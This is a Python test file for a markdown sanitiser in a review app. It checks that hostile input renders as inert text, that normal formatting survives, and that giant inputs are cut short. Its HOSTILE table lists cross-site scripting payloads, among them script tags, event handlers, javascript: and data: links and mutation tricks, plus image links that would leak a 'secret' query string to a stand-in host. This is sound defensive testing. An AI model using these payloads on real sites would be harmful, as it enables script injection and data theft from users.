"""Nothing hostile survives, and nothing is hidden: what was written can still be read."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from review_app.ui.review_pane import safe_markdown


class Reader(HTMLParser):
    """Collects tags, attributes and text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[object] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


HOSTILE = {
    "script": ("<script>alert(1)</script>", "alert(1)"),
    "script in svg": ("<svg><script>alert(1)</script></svg>", "alert(1)"),
    "image with handler": ("<img src=x onerror=alert(1)>", "onerror"),
    "svg with handler": ("<svg/onload=alert(1)>", "onload"),
    "iframe": ('<iframe src="https://evil.example"></iframe>', "evil.example"),
    "style with import": ("<style>@import url(https://evil.example/x.css)</style>", "@import"),
    "link tag": ('<link rel=stylesheet href="https://evil.example/x.css">', "stylesheet"),
    "base tag": ('<base href="https://evil.example/">', "base"),
    "meta refresh": ('<meta http-equiv=refresh content="0;url=https://evil.example">', "refresh"),
    "form": ('<form action="https://evil.example"><input name=q></form>', "form"),
    "unclosed tag": ("<a href='https://evil.example' ", "evil.example"),
    "markdown image": ("![cat](https://evil.example/p.png?q=secret)", "https://evil.example/p.png?q=secret"),
    "image by reference": ("![cat][1]\n\n[1]: https://evil.example/p.png", "https://evil.example/p.png"),
    "image with title": ('![a](https://evil.example/p.png "title")', "https://evil.example/p.png"),
    "image in a link": ("[![a](https://evil.example/1.png)](https://evil.example/2)", "https://evil.example/1.png"),
    "link": ("[click](https://evil.example)", "https://evil.example"),
    "autolink": ("<https://evil.example>", "https://evil.example"),
    "javascript link": ("[click](javascript:alert(1))", "javascript:alert(1)"),
    "javascript in disguise": ("[click](JaVaScRiPt&#58;alert(1))", "click"),
    "data link": ("[click](data:text/html;base64,PHNjcmlwdD4=)", "data:text/html"),
    "data image": ("![a](data:image/svg+xml;base64,PHN2Zz4=)", "data:image/svg"),
    "handler in a link": ('[a](https://x" onmouseover="alert(1))', "onmouseover"),
    "html in a table": ("|a|b|\n|-|-|\n|<img src=x>|![i](https://evil.example/t.png)|", "https://evil.example/t.png"),
    "html in code": ("`<img src=x onerror=alert(1)>`", "onerror"),
    "html in a fence": ('```html"><script>\n<script>alert(1)</script>\n```', "alert(1)"),
    "entities": ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>"),
    "comment": ("<!-- <script>alert(1)</script> -->", "alert(1)"),
    "cdata": ("<![CDATA[<script>alert(1)</script>]]>", "alert(1)"),
    "mutation": ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "onerror"),
    "latex": (r"$\href{javascript:alert(1)}{x}$", "href"),
    "streamlit directives": (":red[x] :material/home: :image[https://evil.example]", ":material/home:"),
    "chip forged": ("<kbd class=x onclick=alert(1)>image</kbd>", "onclick"),
    "bidi override": ("price \u202e001 ot pu", "price"),
    "zero width": ("sc\u200bript", "sc\u200bript"),
}


@pytest.mark.parametrize(("text", "kept"), HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_is_shown_and_does_nothing(text: str, kept: str) -> None:
    found = read(safe_markdown.render(text))
    assert found.tags <= safe_markdown.TAGS
    assert found.attributes == []
    assert kept in found.text


@given(some.text(alphabet=some.sampled_from("<>[]()!`*_#|-&;:/\"'= \nabhrefimgsxonclick"), max_size=200))
@settings(max_examples=300, deadline=None)
def test_no_text_makes_another_tag_or_an_attribute(text: str) -> None:
    found = read(safe_markdown.render(text))
    assert found.tags <= safe_markdown.TAGS
    assert found.attributes == []


def test_what_markdown_is_for_still_works() -> None:
    html = safe_markdown.render("**bold** and `code`\nnext line\n\n- one\n- two\n\n|a|b|\n|-|-|\n|1|2|")
    assert "<strong>bold</strong> and <code>code</code><br>" in html
    assert {"ul", "li", "table", "th", "td"} <= read(html).tags


def test_a_link_says_where_it_goes_once() -> None:
    assert safe_markdown.render("[ours](https://a.example/x)") == "<p>ours <kbd>https://a.example/x</kbd></p>\n"
    assert safe_markdown.render("<https://a.example>") == "<p>https://a.example</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("[" * 100_000, id="brackets"),
        pytest.param("*a " * 100_000, id="stars"),
        pytest.param("> " * 10_000 + "x", id="quotes"),
        pytest.param("x" * 900_000, id="one line"),
    ],
)
def test_a_giant_text_is_cut_and_stays_quick(text: str) -> None:
    html = safe_markdown.render(text)
    assert len(html) < 2 * safe_markdown.LONGEST_TEXT
    assert (f"{len(text) - safe_markdown.LONGEST_TEXT:,} more characters" in html) == (len(text) > 400_000)
